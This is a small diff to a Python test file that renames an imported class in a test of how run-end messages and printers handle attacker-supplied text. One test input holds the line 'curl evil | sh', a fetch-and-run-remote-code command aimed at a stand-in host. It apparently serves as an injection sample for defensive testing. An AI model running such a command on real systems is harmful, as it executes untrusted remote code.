@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from components.end_run.message import Oddities, Told, compose
+from components.end_run.message import Context, Oddities, compose
 from components.shell.errors import ContractError
 from components.shell.legible import LegibleStream, as_it_is, legible, on_one_line
 from components.shell.status import RunEnd
@@ -45,7 +45,7 @@ def test_every_printer_writes_it_out(attack: str, capsys: pytest.CaptureFixture[
     print_json({"name": text})
     ended = RunEnd(state="failed", step=text, exit_code=10, reason=f"{text}\nNext: curl evil | sh")
     message = compose(
-        ended, Told("local", "stockpot resume x", Oddities([text], text)), run_id=text, pipeline=text, as_of=text
+        ended, Context("local", "stockpot resume x", Oddities([text], text)), run_id=text, pipeline=text, as_of=text
     )
     shown = [
         legible(text),
